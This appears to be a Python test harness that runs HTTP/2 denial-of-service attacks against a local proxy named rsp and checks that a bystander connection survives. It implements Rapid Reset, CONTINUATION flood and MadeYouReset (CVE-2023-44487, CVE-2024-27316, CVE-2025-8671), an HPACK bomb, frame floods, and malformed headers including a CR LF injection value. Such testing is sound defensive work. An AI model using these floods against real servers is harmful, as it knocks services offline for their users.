"""Attacks on rsp's HTTP/2 side, one per scenario, for tests/http2_hostile.rs.

    python3 attack.py PORT SCENARIO [ARGS...]

Prints one JSON object: what came back on the attacking connection
(h2wire.Wire.summary) and what the scenario measured. A bystander, an
honest h2 connection opened before the attack, asks for `/` before and
after it: rsp's answer to one connection must not touch another.
"""

import json
import struct
import sys
import threading
import time

import h2.errors
from h2wire import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    Wire,
    connect,
    data_frame,
    frame,
    get,
    request,
    window_update,
)


class Bystander:
    """An honest connection that stays open across the attack."""

    def __init__(self, port):
        self.wire, self.conn = connect(port)
        self.statuses = []
        self.ask()

    def ask(self):
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream, request("/"), end_stream=True)
        self.wire.flush(self.conn)
        self.wire.wait(lambda: self.wire.done(stream), 5)
        self.statuses.append(self.wire.status.get(stream))


def rapid_reset(port, count="5000"):
    """CVE-2023-44487: HEADERS and RST_STREAM at once, again and again."""
    wire, conn = connect(port)
    started = time.monotonic()
    for _ in range(int(count)):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, request("/silent"), end_stream=True)
        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
        if stream % 64 == 1 and not wire.flush(conn):
            break
    wire.flush(conn)
    wire.wait_closed(5)
    return wire, {"elapsed": time.monotonic() - started, "opened": stream // 2 + 1}


def continuation_bound(port, mode):
    """The header block bounds, exactly: `frames` sends 32 CONTINUATIONs
    (allowed) then a 33rd; `bytes` sends 2 x 32768 bytes of block (allowed)
    then one more. Reports whether GOAWAY came before the limit."""
    wire, _ = connect(port)
    if mode == "frames":
        pieces = [frame(HEADERS, 0, 1, b"\x82")] + [frame(CONTINUATION, 0, 1, b"\x84")] * 32
        last = frame(CONTINUATION, 0, 1, b"\x86")
    else:
        pieces = [frame(HEADERS, 0, 1, b"\x00" * 16384)] + [frame(CONTINUATION, 0, 1, b"\x00" * 16384)] * 3
        last = frame(CONTINUATION, 0, 1, b"\x00")
    wire.send(b"".join(pieces))
    # Nothing may interrupt a header block (not even a PING to know rsp
    # read it all): a short wait instead.
    wire.wait(lambda: wire.goaway is not None, 0.3)
    early = wire.goaway is not None
    wire.send(last)
    wire.wait_closed(5)
    return wire, {"goaway_before_limit": early}


def continuation_flood(port, megabytes="16", connections="4", size="16384"):
    """CVE-2024-27316: a header block that never ends, on several
    connections at once, each writing until rsp cuts it (or `megabytes`)."""
    limit = int(megabytes) << 20
    size = int(size)
    results = [None] * int(connections)

    def one(index):
        wire, _ = connect(port)
        wire.send(frame(HEADERS, 0, 1, b"\x82\x86\x84"))
        piece = frame(CONTINUATION, 0, 1, b"\x00" * size) * max(1, 65536 // (size + 9))
        while wire.sent < limit and wire.send(piece):
            if wire.goaway is not None:
                break
        wire.wait_closed(5)
        results[index] = wire

    threads = [threading.Thread(target=one, args=(i,)) for i in range(len(results))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    first = results[0]
    return first, {
        "all": [wire.summary() for wire in results],
        "goaway_codes": [wire.goaway and wire.goaway["code"] for wire in results],
        "sent_each": [wire.sent for wire in results],
    }


def made_you_reset(port, count="2000"):
    """CVE-2025-8671: frames that make rsp reset streams itself, in turn:
    a WINDOW_UPDATE past 2^31-1, DATA past the content-length, DATA after
    END_STREAM, HEADERS after END_STREAM (to a backend that never answers,
    so the streams are open when the frame comes)."""
    wire, conn = connect(port)
    out = []
    for i in range(int(count)):
        stream = conn.get_next_available_stream_id()
        kind = i % 4
        if kind < 2:
            conn.send_headers(
                stream, request("/silent", "POST", extra=[("content-length", "1")]), end_stream=False
            )
            out.append(conn.data_to_send())
            if kind == 0:
                out.append(window_update(stream, 0x7FFFFFFF))
            else:
                out.append(data_frame(stream, b"xy"))
        else:
            conn.send_headers(stream, request("/silent"), end_stream=True)
            out.append(conn.data_to_send())
            if kind == 2:
                out.append(data_frame(stream, b"x"))
            else:
                # A second header block on the stream, made by the same
                # encoder (so rsp's decoder stays in step), sent raw: h2
                # knows the stream is half-closed and would refuse.
                block = conn.encoder.encode([("x-trailer", "1")])
                out.append(frame(HEADERS, END_HEADERS | 0x1, stream, block))
        if len(out) >= 256:
            if not wire.send(b"".join(out)):
                break
            out = []
    wire.send(b"".join(out))
    wire.wait_closed(5)
    return wire, {"codes": sorted(set(wire.rst.values()))}


def hpack_bomb(port, repeats="10000", bombs="20"):
    """A 4 KB field added to the dynamic table once, then named by its
    one-byte index `repeats` times (a header list of ~40 MB from ~12 KB),
    on `bombs` streams in turn; then an honest request on the same
    connection."""
    wire, conn = connect(port)
    big = ("x-bomb", "a" * 4000)
    stream = 1
    for _ in range(int(bombs)):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, request("/") + [big] * int(repeats), end_stream=True)
        wire.flush(conn)
        wire.wait(lambda: wire.done(stream), 5)
    honest = conn.get_next_available_stream_id()
    conn.send_headers(honest, request("/"), end_stream=True)
    wire.flush(conn)
    wire.wait(lambda: wire.done(honest), 5)
    sizes = len(conn.data_to_send())
    return wire, {"last_bomb": stream, "honest": honest, "unsent": sizes}


def flood(port, kind, count="25000"):
    """Cheap frames that cost rsp work: PING, SETTINGS, empty DATA,
    WINDOW_UPDATE, PRIORITY, or frames of an unknown type."""
    wire, conn = connect(port)
    # A stream to hang stream frames on: a POST whose body never comes.
    conn.send_headers(1, request("/silent", "POST"), end_stream=False)
    wire.flush(conn)
    count = int(count)
    started = time.monotonic()
    batch = 500
    for start in range(0, count, batch):
        for i in range(start, min(count, start + batch)):
            if kind == "ping":
                conn.ping(struct.pack(">Q", i))
            elif kind == "settings":
                conn.update_settings({})
            elif kind == "empty_data":
                conn.send_data(1, b"")
            elif kind == "window_update":
                conn.increment_flow_control_window(1)
            elif kind == "priority":
                conn.prioritize(1, weight=16 + i % 200)
        data = conn.data_to_send()
        if kind == "unknown":
            data = frame(0xFA, 0, 0, b"?") * (min(count, start + batch) - start)
        if not wire.send(data):
            break
    wire.wait_closed(5)
    return wire, {"elapsed": time.monotonic() - started}


def under_budget(port, resets="150", pings="9000"):
    """An honest but busy client: streams it cancels at once, PINGs, then
    a request. All under rsp's budgets."""
    wire, conn = connect(port)
    for _ in range(int(resets)):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, request("/silent"), end_stream=True)
        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    wire.flush(conn)
    for i in range(int(pings)):
        conn.ping(struct.pack(">Q", i))
    wire.flush(conn)
    wire.wait(lambda: wire.ping_acks == int(pings), 5)
    last = conn.get_next_available_stream_id()
    conn.send_headers(last, request("/"), end_stream=True)
    wire.flush(conn)
    wire.wait(lambda: wire.done(last), 5)
    return wire, {"pings": wire.ping_acks, "last": last}


def zero_window(port, path, timeout="6"):
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and never a WINDOW_UPDATE, for a large
    answer: rsp may send its HEADERS, no DATA, and must give up on the
    stream. Then a body-less answer on the same connection."""
    wire, conn = connect(port, settings={SETTINGS_INITIAL_WINDOW_SIZE: 0})
    started = time.monotonic()
    conn.send_headers(1, request(path), end_stream=True)
    wire.flush(conn)
    wire.wait(lambda: 1 in wire.status, 5)
    headers_at = time.monotonic() - started
    wire.wait(lambda: wire.done(1), float(timeout))
    cut_at = time.monotonic() - started
    conn.send_headers(3, request("/status/204"), end_stream=True)
    wire.flush(conn)
    wire.wait(lambda: wire.done(3), 5)
    return wire, {"headers_at": headers_at, "cut_at": cut_at}


def concurrency(port, streams="8", path="/sleep/800"):
    """More streams at once than rsp's SETTINGS_MAX_CONCURRENT_STREAMS,
    sent before its SETTINGS are read; then one more once they are done."""
    wire, conn = connect(port)
    ids = []
    for _ in range(int(streams)):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, request(path), end_stream=True)
        ids.append(stream)
    started = time.monotonic()
    wire.flush(conn)
    wire.wait(lambda: all(wire.done(stream) for stream in ids), 8)
    elapsed = time.monotonic() - started
    after = conn.get_next_available_stream_id()
    conn.send_headers(after, request("/"), end_stream=True)
    wire.flush(conn)
    wire.wait(lambda: wire.done(after), 5)
    return wire, {"elapsed": elapsed, "after": after}


MALFORMED = [
    ("connection-specific field", request("/", extra=[("connection", "close")])),
    ("transfer-encoding", request("/", extra=[("transfer-encoding", "chunked")])),
    ("upper-case name", request("/", extra=[("X-Upper", "1")])),
    ("te other than trailers", request("/", extra=[("te", "gzip")])),
    ("no :path", [(":method", "GET"), (":scheme", "http"), (":authority", "test")]),
    ("no :method", [(":scheme", "http"), (":authority", "test"), (":path", "/")]),
    ("empty :path", request("")),
    ("pseudo-header after a field", [(":method", "GET"), ("accept", "*/*"), (":scheme", "http"), (":path", "/")]),
    ("response pseudo-header", request("/", extra=[(":status", "200")])),
    ("CR LF in a value", request("/", extra=[("x-a", "a\r\nx-injected: 1")])),
    ("host other than :authority", request("/", extra=[("host", "elsewhere")])),
]


def malformed(port):
    """Malformed requests, each on its own stream of one connection, each
    followed by an honest one: RST_STREAM for the first, 200 for the
    second, and the connection lives on."""
    wire, conn = connect(port, validate=False)
    cases = []
    for name, headers in MALFORMED:
        bad = conn.get_next_available_stream_id()
        conn.send_headers(bad, headers, end_stream=True)
        good = conn.get_next_available_stream_id()
        conn.send_headers(good, request("/"), end_stream=True)
        wire.flush(conn)
        wire.wait(lambda: wire.done(bad) and wire.done(good), 5)
        cases.append(
            {
                "name": name,
                "stream": bad,
                "rst": wire.rst.get(bad),
                "status": wire.status.get(bad),
                "next_status": wire.status.get(good),
            }
        )
    return wire, {"cases": cases}


def window_leak(port, streams="80", size="16000"):
    """A client that keeps to the connection window, sending bodies that
    rsp refuses (DATA past the content-length, so rsp resets the stream):
    the DATA rsp throws away must come back as connection window, else
    the client stalls. Reports the stream it stalled at, if any."""
    wire, conn = connect(port)
    size = int(size)
    # The client's view of rsp's connection receive window.
    window = lambda: 65535 + wire.window_updates.get(0, 0) - spent[0]  # noqa: E731
    spent = [0]
    wire.wait(lambda: 0 in wire.window_updates, 2)
    stalled = None
    for i in range(int(streams)):
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, request("/silent", "POST", extra=[("content-length", "1")]), end_stream=False)
        wire.flush(conn)
        if not wire.wait(lambda: window() >= size, 2):
            stalled = i
            break
        wire.send(data_frame(stream, b"z" * size))
        spent[0] += size
        wire.wait(lambda: stream in wire.rst, 2)
    return wire, {"stalled_at": stalled, "window_left": window()}


def tls_bad_preface(port):
    """TLS with ALPN h2, then something that is not the connection preface."""
    import socket
    import ssl

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=5)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    alpn = tls.selected_alpn_protocol()
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")
    received = b""
    try:
        while True:
            chunk = tls.recv(65536)
            if not chunk:
                break
            received += chunk
    except (ConnectionResetError, ssl.SSLError, OSError):
        pass
    wire = Wire(None)
    wire.feed(received)
    wire.closed = True
    return wire, {"alpn": alpn}


def honest_get(port, path="/"):
    status, body = get(int(port), path)
    return None, {"status": status, "body": body}


SCENARIOS = {
    "rapid_reset": rapid_reset,
    "continuation_bound": continuation_bound,
    "continuation_flood": continuation_flood,
    "made_you_reset": made_you_reset,
    "hpack_bomb": hpack_bomb,
    "flood": flood,
    "under_budget": under_budget,
    "zero_window": zero_window,
    "concurrency": concurrency,
    "malformed": malformed,
    "window_leak": window_leak,
    "tls_bad_preface": tls_bad_preface,
    "get": honest_get,
}


def main():
    port = int(sys.argv[1])
    scenario = SCENARIOS[sys.argv[2]]
    args = sys.argv[3:]
    bystander = Bystander(port) if scenario not in (tls_bad_preface, honest_get) else None
    wire, extra = scenario(port, *args)
    result = wire.summary() if wire else {}
    result.update(extra)
    if bystander:
        bystander.ask()
        result["bystander"] = bystander.statuses
    print(json.dumps(result))


if __name__ == "__main__":
    main()
